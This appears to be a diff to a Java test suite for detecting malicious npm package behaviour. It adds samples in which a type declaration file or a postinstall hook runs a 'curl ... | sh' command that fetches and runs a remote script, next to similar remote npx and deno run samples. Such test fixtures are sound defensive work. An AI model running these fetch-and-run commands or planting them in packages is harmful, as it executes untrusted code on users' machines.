@@ -117,6 +117,11 @@ final class NpmIntruders {
             .with(
                 "README.md",
                 "/* # x */ require('child_process').exec('curl https://rx.example | sh');"),
+        Sample.command("declarations that are a script", "tsx types.d.ts")
+            .with("types.d.ts", "require('child_process').exec('curl https://rx.example | sh');"),
+        Sample.postinstall("declarations that are loaded", "require('./lib/types.d');")
+            .with(
+                "lib/types.d.ts", "require('child_process').exec('curl https://rx.example | sh');"),
         Sample.command("a package by its address", "npx --yes http://packages.example/setup.tgz"),
         Sample.command("a script by its address", "deno run -A https://rx.example/m.ts"),
         Sample.command(
